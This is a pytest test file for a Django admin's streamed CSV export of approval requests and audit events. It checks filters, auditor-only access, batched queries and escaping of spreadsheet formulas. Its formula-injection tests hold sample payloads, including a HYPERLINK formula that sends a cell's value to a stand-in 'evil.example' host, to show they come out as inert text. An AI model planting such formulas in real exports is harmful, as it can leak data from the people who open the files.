"""The auditors' CSV export from the admin: what the changelist selects, streamed in batches."""

import csv
import datetime
import io
import json
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from approvals import services
from approvals.export import EXPORT_BATCH_ROWS, spreadsheet_safe
from approvals.models import ApprovalRequest, AuditEvent

pytestmark = pytest.mark.django_db

REQUESTS = "/admin/approvals/approvalrequest/"
EVENTS = "/admin/approvals/auditevent/"
# The columns auditors' scripts read, in their order: the export's first line, spelled out.
REQUEST_HEADER_LINE = (
    "request_id,external_id,title,requester_email,amount,currency,status,created_at,expires_at,"
    "closed_at,required_approvals,decision,decided_by,on_behalf_of,decided_at,comment,"
    "callback_status,callback_attempts,callback_delivered_at,callback_last_error,registered_by,"
    "inputs"
)
REQUEST_HEADER = REQUEST_HEADER_LINE.split(",")
EVENT_HEADER = ["at", "request_id", "request_title", "external_id", "kind", "actor", "payload"]


def export(client, url):
    """GET an export; answers the response and its rows as dicts (the header read)."""
    response = client.get(url)
    assert response.status_code == 200, response
    text = b"".join(response.streaming_content).decode("utf-8")
    return response, list(csv.DictReader(io.StringIO(text)))


def test_an_auditor_exports_requests_with_one_row_per_decision(
    client, signed_in_auditor, register, make_user, manager
):
    deputy = make_user("deputy")
    trip = register(title="Lisbon trip", external_id="EXP-7", amount="120.50", required_approvals=2)
    charger = register(
        title="Laptop charger", requester_email="bob@example.com", amount=None, currency=None
    )
    services.decide(trip["id"], manager, "approved", "Fine by me")
    services.decide(trip["id"], deputy, "approved", "")

    response = client.get(REQUESTS + "export/")

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="approval-requests-\d{8}-\d{6}\.csv"',
        response["Content-Disposition"],
    )
    content = b"".join(response.streaming_content)
    assert content.startswith(b"request_id,external_id,")  # plain UTF-8: no byte-order mark
    reader = csv.reader(io.StringIO(content.decode("utf-8")))
    assert next(reader) == REQUEST_HEADER
    rows = [dict(zip(REQUEST_HEADER, row, strict=True)) for row in reader]
    by_title = {}
    for row in rows:
        by_title.setdefault(row["title"], []).append(row)
    assert sorted(by_title) == ["Laptop charger", "Lisbon trip"]

    first, second = by_title["Lisbon trip"]
    assert (first["decided_by"], first["comment"]) == ("manager@example.com", "Fine by me")
    assert (second["decided_by"], second["comment"]) == ("deputy@example.com", "")
    assert {first["decision"], second["decision"]} == {"approved"}
    approval = ApprovalRequest.objects.get(pk=trip["id"])
    for row in (first, second):
        assert row["request_id"] == trip["id"]
        assert (row["external_id"], row["amount"], row["currency"]) == ("EXP-7", "120.500", "EUR")
        assert (row["status"], row["required_approvals"], row["on_behalf_of"]) == (
            "approved",
            "2",
            "",
        )
        assert row["closed_at"] == approval.closed_at.astimezone(datetime.UTC).strftime(
            "%Y-%m-%dT%H:%M:%SZ"
        )
        assert row["callback_status"] == approval.delivery_status
        assert row["registered_by"] == "api-token"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", first["decided_at"])

    (waiting,) = by_title["Laptop charger"]
    assert waiting["request_id"] == charger["id"]
    assert (waiting["status"], waiting["amount"], waiting["closed_at"]) == ("pending", "", "")
    assert [waiting[name] for name in REQUEST_HEADER[11:16]] == [""] * 5
    # The changelist's order: newest first.
    assert [row["title"] for row in rows] == ["Laptop charger", "Lisbon trip", "Lisbon trip"]


@pytest.mark.parametrize(
    ("query", "exported"),
    [
        ("", {"Lisbon trip", "Laptop charger", "Old report"}),
        ("status=approved", {"Lisbon trip"}),
        ("status=pending", {"Laptop charger", "Old report"}),
        ("q=bob", {"Laptop charger"}),
        ("q=EXP-7", {"Lisbon trip"}),
        ("q=manager%40example.com", {"Lisbon trip"}),  # through the decisions
        ("created_at__year=2020", {"Old report"}),  # a date lookup in the query string
        ("status=pending&q=laptop", {"Laptop charger"}),
    ],
)
def test_the_request_export_selects_what_the_changelist_shows(
    client, signed_in_auditor, register, manager, query, exported
):
    trip = register(title="Lisbon trip", external_id="EXP-7")
    register(title="Laptop charger", requester_email="bob@example.com")
    old = register(title="Old report")
    ApprovalRequest.objects.filter(pk=old["id"]).update(
        created_at=datetime.datetime(2020, 3, 1, 12, tzinfo=datetime.UTC)
    )
    services.decide(trip["id"], manager, "approved", "")

    _response, rows = export(client, f"{REQUESTS}export/?{query}")

    assert {row["title"] for row in rows} == exported
    assert len(rows) == len(exported)


def test_the_audit_export_honours_the_kind_filter_and_search(
    client, signed_in_auditor, register, manager
):
    trip = register(title="Lisbon trip", external_id="EXP-7")
    other = register(title="Laptop charger")
    services.decide(trip["id"], manager, "approved", "ok")
    services.decide(other["id"], manager, "rejected", "Too much")

    response, rows = export(client, EVENTS + "export/?kind=approved")

    assert re.fullmatch(
        r'attachment; filename="audit-events-\d{8}-\d{6}\.csv"', response["Content-Disposition"]
    )
    assert list(rows[0]) == EVENT_HEADER
    (row,) = rows
    event = AuditEvent.objects.get(request_id=trip["id"], kind=AuditEvent.Kind.APPROVED)
    assert (row["request_id"], row["request_title"], row["external_id"]) == (
        trip["id"],
        "Lisbon trip",
        "EXP-7",
    )
    assert (row["kind"], row["actor"]) == ("approved", "manager@example.com")
    assert row["at"] == event.at.astimezone(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert json.loads(row["payload"]) == event.payload
    assert row["payload"] == json.dumps(event.payload, separators=(",", ":"), sort_keys=True)

    _response, searched = export(client, EVENTS + "export/?q=Laptop")
    assert {r["request_title"] for r in searched} == {"Laptop charger"}
    assert {r["kind"] for r in searched} >= {"registered", "rejected"}
    assert len(searched) == AuditEvent.objects.filter(request_id=other["id"]).count()


@pytest.mark.parametrize("changelist", [REQUESTS, EVENTS])
def test_only_auditors_may_export(client, make_user, register, changelist):
    register()
    url = changelist + "export/"

    anonymous = client.get(url)
    assert anonymous.status_code == 302 and "/login/" in anonymous["Location"]

    client.force_login(make_user("helpdesk", approver=False, is_staff=True))
    assert client.get(url).status_code == 403


def test_a_filter_the_changelist_cannot_apply_exports_nothing(client, signed_in_auditor, register):
    register()

    response = client.get(REQUESTS + "export/?created_at__year=not-a-year")

    assert response.status_code == 302
    assert response["Location"] == REQUESTS + "?e=1"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1", "'+1"),
        ("-1 from me", "'-1 from me"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_spreadsheet_safe_prefixes_what_a_spreadsheet_would_run(text, safe):
    assert spreadsheet_safe(text) == safe


def test_formulas_from_callers_and_people_come_out_as_text(
    client, signed_in_auditor, register, manager
):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    created = register(title=formula, external_id="+SUM(1)", amount="0.5")
    services.decide(created["id"], manager, "rejected", "@everyone -1")

    _response, (row,) = export(client, REQUESTS + "export/")
    _response, events = export(client, EVENTS + "export/?kind=rejected")

    assert row["title"] == "'" + formula
    assert row["external_id"] == "'+SUM(1)"
    assert row["comment"] == "'@everyone -1"
    assert row["amount"] == "0.500"  # our own numbers are left alone
    assert row["decided_by"] == "manager@example.com"
    assert [(e["request_title"], e["external_id"]) for e in events] == [("'" + formula, "'+SUM(1)")]


def test_the_export_reads_and_sends_in_batches(client, signed_in_auditor, manager):
    """A batch and 500 requests more: the first piece of the file costs the first batch's queries
    only (the requests' SELECT and one query for that batch's decisions); the decisions of the
    last 500 are read only when the stream gets to them."""
    count = EXPORT_BATCH_ROWS + 500
    now = timezone.now()
    ApprovalRequest.objects.bulk_create(
        ApprovalRequest(
            callback_url=f"https://workflowexecutions.googleapis.com/v1/x/callbacks/{number}",
            title=f"Report {number}",
            requester_email="alice@example.com",
            requester_key="alice@example.com",
            registered_by="api-token",
            created_at=now - datetime.timedelta(seconds=number),
            expires_at=now + datetime.timedelta(days=1),
        )
        for number in range(count)
    )

    response = client.get(REQUESTS + "export/")
    assert response.streaming
    pieces = iter(response.streaming_content)
    with CaptureQueriesContext(connection) as first_queries:
        first = next(pieces)
    with CaptureQueriesContext(connection) as later_queries:
        later = list(pieces)

    def reading(queries, table):
        return [q for q in queries if f'FROM "{table}"' in q["sql"]]

    assert len(reading(first_queries, "approvals_approvalrequest")) == 1
    assert len(reading(first_queries, "approvals_decision")) == 1
    assert len(first_queries) == 2
    assert reading(later_queries, "approvals_approvalrequest") == []
    assert len(reading(later_queries, "approvals_decision")) == 1  # the second batch's
    assert len(later_queries) == 1
    rows = list(csv.reader(io.StringIO(b"".join([first, *later]).decode("utf-8"))))
    assert (
        len(later) >= 1 and first.count(b"\r\n") < EXPORT_BATCH_ROWS
    )  # streamed, not one big piece
    assert len(rows) == 1 + count
    assert rows[1][2] == "Report 0" and rows[-1][2] == f"Report {count - 1}"


def test_the_changelists_link_to_the_export_of_what_they_show(client, signed_in_auditor, register):
    register()

    requests = client.get(REQUESTS + "?status=approved&q=trip&p=1").content.decode()
    events = client.get(EVENTS + "?kind=approved").content.decode()

    assert f'href="{REQUESTS}export/?q=trip&amp;status=approved">Export CSV</a>' in requests
    assert f'href="{EVENTS}export/?kind=approved">Export CSV</a>' in events
    assert f'href="{EVENTS}export/?">Export CSV</a>' in client.get(EVENTS).content.decode()
